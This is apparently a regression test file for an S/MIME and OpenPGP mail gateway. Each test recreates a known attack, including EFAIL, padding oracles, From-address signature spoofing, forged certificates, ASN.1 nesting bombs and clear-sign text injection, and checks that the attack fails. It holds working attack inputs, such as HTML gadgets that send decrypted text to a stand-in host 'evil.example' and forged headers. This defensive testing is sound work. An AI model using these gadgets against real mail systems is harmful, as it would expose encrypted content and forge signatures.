import { createPrivateKey } from 'node:crypto'
import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { MailFailure } from '../../../src/failure.ts'
import { bytesInMemory, type Workspace } from '../../../src/message/byte-source.ts'
import type { MimeEntity } from '../../../src/message/mime-entity.ts'
import { signAndEncrypt } from '../../../src/protection/openpgp/sign-and-encrypt.ts'
import { signDetached } from '../../../src/protection/openpgp/sign-detached.ts'
import { encryptEntity } from '../../../src/protection/smime/encrypt.ts'
import { signEntity } from '../../../src/protection/smime/sign.ts'
import type { StoredKey } from '../../../src/storage/key-store.ts'
import { arrived, mailOf, ownOpenPgpKey, storedOpenPgpKey } from '../../support/arriving-mail.ts'
import { mailUser, makeCertificate } from '../../support/make-certificate.ts'
import { armoredKey } from '../../support/openpgp-judges.ts'
import { temporaryFolder } from '../../support/temporary-folder.ts'
import { testCertificate, testKeyFile, testSigner } from '../../support/test-keys.ts'

/** Each case is named after an attack that worked elsewhere, and shows that it does not work here. */

/** Behind the making of all test keys. */
const at = new Date('2026-12-01T11:00:00Z')
const toUs = [{ certificate: testCertificate('alice-rsa'), keyTransport: 'rsa-pkcs1' as const }]
const bob = 'From: Bob <bob@partner.example>\r\nSubject: Vertrag\r\n'

function entity(
  body: string,
  type = 'text/plain; charset=utf-8',
  more: Record<string, string> = {},
): MimeEntity {
  return {
    fields: Object.entries({ 'Content-Type': type, ...more }).map(([name, value]) => ({
      name,
      value: ` ${value}`,
    })),
    body: bytesInMemory(Buffer.from(body)),
  }
}
type Step = (content: MimeEntity, workspace: Workspace) => Promise<MimeEntity>
const encrypt =
  (cipher: 'aes-256-cbc' | 'aes-256-gcm'): Step =>
  (content, workspace) =>
    encryptEntity(content, toUs, cipher, workspace)
const sign =
  (name = 'bob-rsa', form: 'clear' | 'opaque' = 'clear'): Step =>
  (content, workspace) =>
    signEntity(content, testSigner(name), form, workspace, at)
const signPgp =
  (name: string): Step =>
  (content, workspace) =>
    signDetached(content, armoredKey(name, 'sec'), workspace, at)

/** A mail of bob whose content went through the steps, the innermost first. */
const mail = (content: MimeEntity, steps: readonly Step[], header = bob) =>
  mailOf(async (workspace) => {
    let made = content
    for (const step of steps) made = await step(made, workspace)
    return made
  }, header)
const text = entity('Guten Tag.\r\n')
const gadget = entity('<p>geheim</p><img src="http://evil.example/?geheim">\r\n', 'text/html; charset=utf-8')

let carol: StoredKey
let dave: StoredKey
beforeAll(async () => {
  carol = await storedOpenPgpKey('carol-rsa3072')
  dave = await storedOpenPgpKey('dave-curve25519')
})
const fromCarol = 'From: Carol <carol@partner.example>\r\nSubject: Vertrag\r\n'

describe('what should work, works', () => {
  for (const cipher of ['aes-256-cbc', 'aes-256-gcm'] as const) {
    it(`mail signed and encrypted with ${cipher} is shown as such`, async () => {
      const result = await arrived(await mail(text, [sign(), encrypt(cipher)]))
      expect(result).toMatchObject({ signature: 'valid', encryption: 'opened', isMalleable: false })
      expect(result.subject).toBe('Vertrag [encrypted] [signed OK]')
      expect(result.security).toContain('signature=valid; encryption=opened')
      expect(result.results).toMatch(/smime=pass body\.smime-identifier="bob@partner\.example"/)
      expect(result.body).toContain('Guten Tag.')
    })
  }

  it('mail signed around its content is readable without S/MIME', async () => {
    const result = await arrived(await mail(text, [sign('bob-ec', 'opaque')]))
    expect(result).toMatchObject({ signature: 'valid', encryption: 'none', body: 'Guten Tag.\r\n' })
  })

  it('text and file that were encrypted by hand are opened, and valid if both are signed', async () => {
    const { createMessage, encrypt: encryptPgp, readKey, readPrivateKey } = await import('openpgp')
    const encryptionKeys = await readKey({ armoredKey: armoredKey('dave-curve25519', 'pub') })
    const signingKeys = await readPrivateKey({ armoredKey: armoredKey('carol-rsa3072', 'sec') })
    const armored = async (content: string, isSigned: boolean) =>
      encryptPgp({
        message: await createMessage({ text: content }),
        encryptionKeys,
        ...(isSigned ? { signingKeys } : {}),
        date: at,
      })
    const known = [carol]
    const ownOpenPgp = await ownOpenPgpKey('dave-curve25519')
    for (const [isFileSigned, signature] of [
      [true, 'valid'],
      [false, 'invalid'],
    ] as const) {
      const parts = [
        `--m\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${await armored('Grüße', true)}\r\n`,
        `--m\r\nContent-Type: application/octet-stream; name=Notiz.txt.asc\r\n\r\n${await armored('Notiz', isFileSigned)}\r\n`,
      ]
      const head = `${fromCarol}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n`
      const result = await arrived(`${head}${parts.join('')}--m--\r\n`, { known, ownOpenPgp })
      expect(result).toMatchObject({ signature, encryption: 'opened' })
      expect(result.body).toContain('Gr=C3=BC=C3=9Fe')
      expect(result.body).toContain('filename=Notiz.txt\r\n')
      expect(result.body).toContain(Buffer.from('Notiz').toString('base64'))
    }
  })

  it('mail that policy leaves as it is keeps the signature around its content', async () => {
    const message = await mail(text, [sign('bob-ec', 'opaque')])
    const result = await arrived(message, { policy: { signedMail: 'leave' } })
    expect(result.subject).toBe('Vertrag [signed OK]')
    expect(result.header).toContain('application/pkcs7-mime')
    // An invalid one is nothing to keep.
    const other = await arrived(await mail(text, [sign('alice-rsa', 'opaque')]), {
      policy: { signedMail: 'leave' },
    })
    expect(other).toMatchObject({ signature: 'invalid', body: 'Guten Tag.\r\n' })
  })

  it('OpenPGP mail signed inside is opened', async () => {
    const known = [carol]
    const ownOpenPgp = await ownOpenPgpKey('dave-curve25519')
    const message = await mailOf(
      (workspace) =>
        signAndEncrypt(
          text,
          { signer: armoredKey('carol-rsa3072', 'sec'), recipients: [armoredKey('dave-curve25519', 'pub')] },
          workspace,
          at,
        ),
      fromCarol,
    )
    const result = await arrived(message, { known, ownOpenPgp })
    expect(result).toMatchObject({ signature: 'valid', encryption: 'opened', isMalleable: false })
    expect(result.results).toMatch(/x-openpgp=pass/)
  })
})

describe('bytes that were changed on their way', () => {
  it('open, stay closed or fail as mail failures, and are never valid with another content', async () => {
    const whole = await Promise.all([
      mail(text, [sign(), encrypt('aes-256-cbc')]),
      mail(text, [sign('bob-ec', 'opaque'), encrypt('aes-256-gcm')]),
      mail(text, [sign()]),
      mail(text, [signPgp('carol-rsa3072')], fromCarol),
    ])
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...whole),
        fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.nat(255)), {
          minLength: 1,
          maxLength: 4,
        }),
        async (message, changes) => {
          const bytes = Buffer.from(message)
          const start = bytes.indexOf('\r\n\r\n')
          for (const [place, value] of changes)
            bytes[start + Math.floor(place * (bytes.length - start - 1))] = value
          try {
            const result = await arrived(bytes, { known: [carol] })
            if (result.signature === 'valid') expect(result.body).toContain('Guten Tag.')
          } catch (error) {
            expect(error).toBeInstanceOf(MailFailure)
          }
        },
      ),
      { numRuns: 150 },
    )
  }, 60_000)
})

describe('EFAIL (CVE-2017-17688, CVE-2017-17689)', () => {
  it('by parts around: the encrypted part of a larger message stays closed, and is called so', async () => {
    const stolen = (await mail(text, [encrypt('aes-256-gcm')], ''))
      .toString('latin1')
      .replace('MIME-Version: 1.0\r\n', '')
    const around =
      `${bob}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n` +
      `--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n` +
      `--b\r\n${stolen}\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n`
    const result = await arrived(around)
    expect(result).toMatchObject({ isSame: true, encryption: 'closed', reasons: ['not-alone'] })
    expect(result.whole).not.toContain('Guten Tag.')
    expect(result.subject).toBe('Vertrag [not decrypted]')
  })

  it('by a part beside the encrypted one in a signed message: it stays closed', async () => {
    const stolen = await mail(text, [encrypt('aes-256-gcm')], '')
    const joined = entity(
      `--j\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--j\r\n${stolen.toString('latin1').replace('MIME-Version: 1.0\r\n', '')}\r\n--j--\r\n`,
      'multipart/mixed; boundary=j',
    )
    const result = await arrived(await mail(joined, [sign()]))
    expect(result).toMatchObject({ encryption: 'closed', reasons: ['valid', 'not-alone'] })
    expect(result.whole).not.toContain('Guten Tag.')
  })

  it('by a gadget in CBC: what could have been changed calls nobody', async () => {
    const result = await arrived(await mail(gadget, [encrypt('aes-256-cbc')]))
    expect(result).toMatchObject({ isMalleable: true, encryption: 'opened' })
    const html = Buffer.from(result.body, 'base64').toString()
    expect(html).toContain('geheim')
    expect(html).not.toContain('evil.example')
    expect(result.security).toContain('remote-content=removed')
  })

  it('by a gadget under a signature that is not the author’s: it calls nobody either', async () => {
    const result = await arrived(await mail(gadget, [sign('bob-wrong-email'), encrypt('aes-256-cbc')]))
    expect(result).toMatchObject({ isMalleable: true, signature: 'invalid' })
    expect(result.body).not.toContain('evil.example')
    expect(result.security).toContain('remote-content=removed')
  })

  it('a signature outside makes nothing good: who changed the ciphertext can have signed it', async () => {
    expect(await arrived(await mail(gadget, [encrypt('aes-256-cbc'), sign()]))).toMatchObject({
      isMalleable: true,
      signature: 'valid',
    })
  })

  it('what a valid signature inside covers, or GCM, keeps its bytes', async () => {
    for (const steps of [[sign(), encrypt('aes-256-cbc')], [encrypt('aes-256-gcm')]]) {
      const result = await arrived(await mail(gadget, steps))
      expect(result.whole).toContain('evil.example')
      expect(result.security).not.toContain('remote-content')
    }
  })
})

describe('oracles', () => {
  const changed = async (offset: number) => {
    const message = (await mail(text, [encrypt('aes-256-cbc')])).toString('latin1')
    const [head = '', body = ''] = message.split(/(?<=\r\n\r\n)/)
    const cms = Buffer.from(body, 'base64')
    const place = offset < 0 ? cms.length + offset : offset
    cms[place] = (cms[place] ?? 0) ^ 1
    return `${head}${cms.toString('base64').replaceAll(/.{76}/g, '$&\r\n')}\r\n`
  }

  it('Vaudenay: whether a changed ciphertext decrypts, no answer tells', async () => {
    // The last byte breaks the padding, the one a block before changes text only.
    for (const policy of [{ undecryptable: 'reject' }, { undecryptable: 'pass' }] as const) {
      const broken = await arrived(await changed(-1), { policy })
      expect(broken).toMatchObject({ encryption: 'closed', reasons: ['damaged'] })
      const whole = await arrived(await mail(text, [encrypt('aes-256-cbc')]), { policy })
      expect([broken.outcome, whole.outcome]).toEqual([{ kind: 'deliver' }, { kind: 'deliver' }])
    }
  })

  it('a box without a key of ours is refused where policy wants it, with what the sender can do', async () => {
    const foreign: Step = (content, workspace) =>
      encryptEntity(
        content,
        [{ certificate: testCertificate('bob-rsa'), keyTransport: 'rsa-pkcs1' }],
        'aes-256-cbc',
        workspace,
      )
    const message = await mail(text, [foreign])
    expect((await arrived(message)).outcome).toEqual({ kind: 'deliver' })
    const refused = await arrived(message, { policy: { undecryptable: 'reject' } })
    expect(refused.outcome).toMatchObject({
      kind: 'reject',
      hard: false,
      reason: 'closed: smime no-key',
      reply: { code: 550, enhancedStatus: '5.7.5' },
    })
  })
})

describe('SEPPmail', () => {
  it('CVE-2026-29142: what only says that it is encrypted is not', async () => {
    for (const body of ['Guten Tag.', Buffer.from('Guten Tag.').toString('base64')]) {
      const forged =
        `${bob}X-Postsiegel-Security: signature=valid; encryption=opened\r\nMIME-Version: 1.0\r\n` +
        `Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n` +
        `Content-Transfer-Encoding: base64\r\n\r\n${body}\r\n`
      const result = await arrived(forged)
      expect(result).toMatchObject({ layers: [], signature: 'none', encryption: 'none', subject: 'Vertrag' })
      expect(result.security).toBe('signature=none; encryption=none')
      expect(result.header.match(/X-Postsiegel-Security/g)).toHaveLength(1)
    }
  })

  it('CVE-2026-27443: fields inside are not believed', async () => {
    const inside = entity('Guten Tag.\r\n', 'text/plain; hp="cipher"', {
      From: 'Chef <chef@kanzlei.example>',
      Subject: 'Geschenkt [signed OK]',
      'X-Postsiegel-Security': 'signature=valid',
      'X-Postsiegel-Trust': '+100',
      'Authentication-Results': 'mx.kanzlei.example; dmarc=pass; smime=pass',
      Received: 'from inside',
      'Return-Path': '<chef@kanzlei.example>',
    })
    const result = await arrived(await mail(inside, [encrypt('aes-256-gcm')]))
    expect(result.header).not.toMatch(/chef@|signature=valid|\+100|smime=pass|from inside|Return-Path/i)
    expect(result.subject).toBe('Vertrag [encrypted]')
  })

  it('CVE-2026-27443: a subject inside that is shown carries no tag but ours', async () => {
    const inside = entity('Guten Tag.\r\n', 'text/plain; hp="cipher"', {
      From: 'bob@partner.example',
      Subject: 'Innen [signed OK]',
    })
    expect((await arrived(await mail(inside, [encrypt('aes-256-gcm')]))).subject).toBe('Innen [encrypted]')
  })

  for (const [what, from] of [
    ['a name that is an address', '"bob@partner.example" <eve@evil.example>'],
    ['two authors', 'bob@partner.example, eve@evil.example'],
    ['a group', 'bob@partner.example: eve@evil.example;'],
    ['a comment', 'eve@evil.example (bob@partner.example)'],
    ['a quoted local part', '"bob@partner.example,"@evil.example'],
    ['an address behind a route', '<@partner.example:eve@evil.example>'],
    ['two From fields', 'bob@partner.example\r\nFrom: eve@evil.example'],
  ] as const) {
    it(`CVE-2026-27444: bob's signature is not valid under ${what}`, async () => {
      const result = await arrived(await mail(text, [sign()], `From: ${from}\r\nSubject: Vertrag\r\n`))
      expect(result).toMatchObject({ signature: 'invalid', reasons: ['wrong-address'] })
      expect(result.subject).toBe('Vertrag [signed INVALID]')
    })
  }

  it('CVE-2026-27445: an OpenPGP signature by another key than the author’s is not valid', async () => {
    const message = await mail(text, [signPgp('dave-curve25519')], fromCarol)
    const result = await arrived(message, { known: [carol, dave] })
    expect(result).toMatchObject({ signature: 'invalid', reasons: ['unknown-key'] })
    // Nor does it help that dave's key was filed under carol's address.
    const misfiled = { ...dave, addresses: ['carol@partner.example'] }
    expect((await arrived(message, { known: [carol, misfiled] })).signature).toBe('invalid')
    const good = await mail(text, [signPgp('carol-rsa3072')], fromCarol)
    expect((await arrived(good, { known: [carol, dave] })).signature).toBe('valid')
  })

  it('CVE-2026-27445: a key that was merely seen in a mail signs for nobody', async () => {
    const message = await mail(text, [signPgp('carol-rsa3072')], fromCarol)
    for (const known of [
      [],
      [{ ...carol, trust: 'harvested' as const }],
      [{ ...carol, state: 'pending' as const }],
    ])
      expect(await arrived(message, { known })).toMatchObject({
        signature: 'invalid',
        reasons: ['unknown-key'],
      })
  })

  it('CVE-2026-2746: an invalid signature is told in field, results and subject', async () => {
    const message = (await mail(text, [signPgp('carol-rsa3072')], fromCarol)).toString('latin1')
    const result = await arrived(message.replace('Guten Tag.', 'Guten Tod.'), { known: [carol] })
    expect(result).toMatchObject({ signature: 'invalid', reasons: ['altered'] })
    expect(result.subject).toBe('Vertrag [signed INVALID]')
    expect(result.security).toContain('openpgp signed invalid altered')
    expect(result.results).toContain('x-openpgp=fail reason=altered')
  })

  it('CVE-2026-2748: a certificate for an address with white space is for another one', async () => {
    using folder = temporaryFolder()
    const name = Buffer.from('bob@partner.example ')
    const raw = Buffer.concat([Buffer.of(0x30, name.length + 2, 0x81, name.length), name]).toString('hex')
    const issuer = {
      certificate: testCertificate('intermediate-ca'),
      certificateFile: testKeyFile('intermediate-ca.cert.pem'),
      keyFile: testKeyFile('intermediate-ca.key.pem'),
    }
    const { certificate, keyFile } = makeCertificate(folder.path, {
      name: 'space',
      issuer,
      extensions: ['keyUsage=critical,digitalSignature', `subjectAltName=DER:${raw}`],
    })
    const signer = {
      certificate,
      chain: [issuer.certificate],
      privateKey: createPrivateKey(readFileSync(keyFile)),
    }
    const message = await mailOf((workspace) => signEntity(text, signer, 'clear', workspace, at), bob)
    expect((await arrived(message)).signature).toBe('invalid')
  })
})

describe('OpenPGP libraries', () => {
  const body = 'Guten Tag.\n'
  const clearSigned = async () => {
    const { createCleartextMessage, readPrivateKey, sign: signText } = await import('openpgp')
    const signingKeys = await readPrivateKey({ armoredKey: armoredKey('carol-rsa3072', 'sec') })
    return signText({ message: await createCleartextMessage({ text: body }), signingKeys, date: at })
  }
  const inMail = (content: string) => `${fromCarol}\r\n${content.replaceAll(/\r?\n/g, '\r\n')}`

  it('a text signed in the clear becomes what was signed', async () => {
    const result = await arrived(inMail(await clearSigned()), { known: [carol] })
    expect(result).toMatchObject({ signature: 'valid', encryption: 'none' })
    expect(result.body.trim()).toBe('Guten Tag.')
  })

  for (const [what, change] of [
    ['CVE-2025-47934: text behind the signature', (signed: string) => `${signed}\nZahlen Sie an Eve.\n`],
    ['CVE-2025-47934: text in front of it', (signed: string) => `Zahlen Sie an Eve.\n${signed}`],
    [
      'GHSA-ch3c-v47x-4pgp: text in the header of the armor',
      (signed: string) => signed.replace(/\nHash: .*\n/, (hash) => `${hash}Zahlen: an Eve\n`),
    ],
    [
      'GHSA-ch3c-v47x-4pgp: a blank line of blanks in front of the header',
      (signed: string) => signed.replace(/\nHash:/, '\n \t\nZahlen Sie an Eve.\nHash:'),
    ],
    [
      'CVE-2025-68972: a form feed at the end of a line',
      (signed: string) => signed.replace('Tag.', 'Tag.\f'),
    ],
    [
      'CVE-2025-68972: a text behind a form feed',
      (signed: string) => signed.replace('Tag.', 'Tag.\n\fZahlen Sie an Eve.'),
    ],
    ['another text', (signed: string) => signed.replace('Tag', 'Tod')],
    ['a second text', (signed: string) => `${signed}\n${signed.replace('Tag', 'Tod')}`],
  ] as const) {
    it(`${what} is not signed`, async () => {
      const result = await arrived(inMail(change(await clearSigned())), { known: [carol] })
      expect(result.signature).not.toBe('valid')
      expect(result.subject).not.toContain('OK')
    })
  }

  it('CVE-2025-68973: armor that ends within a quantum, or is no base64, opens nothing and breaks nothing', async () => {
    for (const armor of ['hQ', 'hQ=', '=hQEM', 'hQEM=\nA===', '\0\xff', '', 'A'.repeat(100_000)]) {
      const message = `-----BEGIN PGP MESSAGE-----\n\n${armor}\n-----END PGP MESSAGE-----\n`
      expect(await arrived(inMail(message))).toMatchObject({ encryption: 'closed', isSame: true })
    }
  })
})

describe('X.509 and ASN.1 libraries', () => {
  it('node-forge GHSA-2328-f5f3-gj25: who has a certificate is no authority for others', async () => {
    using folder = temporaryFolder()
    const eve = {
      certificate: testCertificate('bob-wrong-email'),
      certificateFile: testKeyFile('bob-wrong-email.cert.pem'),
      keyFile: testKeyFile('bob-wrong-email.key.pem'),
    }
    const { certificate, keyFile } = makeCertificate(folder.path, {
      name: 'forged',
      issuer: eve,
      extensions: mailUser('bob@partner.example'),
    })
    const chain = [eve.certificate, testCertificate('intermediate-ca')]
    const signer = { certificate, chain, privateKey: createPrivateKey(readFileSync(keyFile)) }
    const message = await mailOf((workspace) => signEntity(text, signer, 'clear', workspace, at), bob)
    expect(await arrived(message)).toMatchObject({ signature: 'invalid' })
  })

  it('node-forge CVE-2025-66031: elements nested without end are no signature, and end soon', async () => {
    const oid = '06092a864886f70d010702'
    const bomb = Buffer.concat([Buffer.from(`3080${oid}`, 'hex'), Buffer.from('a080'.repeat(500_000), 'hex')])
    const head = `${bob}MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n`
    const result = await arrived(`${head}${bomb.toString('base64').replaceAll(/.{76}/g, '$&\r\n')}\r\n`)
    expect(result.signature).not.toBe('valid')
  })

  it('node-forge CVE-2025-12816: a signature in two readings, with its content inside and beside, is not valid', async () => {
    const clear = (await mail(text, [sign()])).toString('latin1')
    const opaque = await mailOf((workspace) =>
      signEntity(entity('Zahlen Sie an Eve.\r\n'), testSigner('bob-rsa'), 'opaque', workspace, at),
    )
    const inside = opaque.toString('latin1').split('\r\n\r\n')[1] ?? ''
    const mixed = clear.replace(/(name=smime\.p7s[\s\S]*?\r\n\r\n)[A-Za-z0-9+/=\r\n]+/, `$1${inside}\r\n`)
    expect(mixed).not.toBe(clear)
    expect(await arrived(mixed)).toMatchObject({ signature: 'invalid', isSame: true })
  })

  for (const [name, reason] of [
    ['bob-revoked', 'revoked'],
    ['bob-wrong-email', 'wrong-address'],
    ['bob-selfsigned', 'self-signed'],
    ['alice-rsa', 'wrong-address'],
  ] as const) {
    it(`a signature by ${name} is invalid: ${reason}`, async () => {
      expect(await arrived(await mail(text, [sign(name)]))).toMatchObject({
        signature: 'invalid',
        reasons: [reason],
      })
    })
  }
})

describe('Stalwart CVE-2026-26312', () => {
  it('layers without end are opened to a bound', async () => {
    const result = await arrived(
      await mail(
        text,
        Array.from({ length: 8 }, () => encrypt('aes-256-gcm')),
      ),
    )
    expect(result).toMatchObject({ encryption: 'closed', reasons: ['too-large'] })
    expect(result.layers).toHaveLength(6)
  })
})
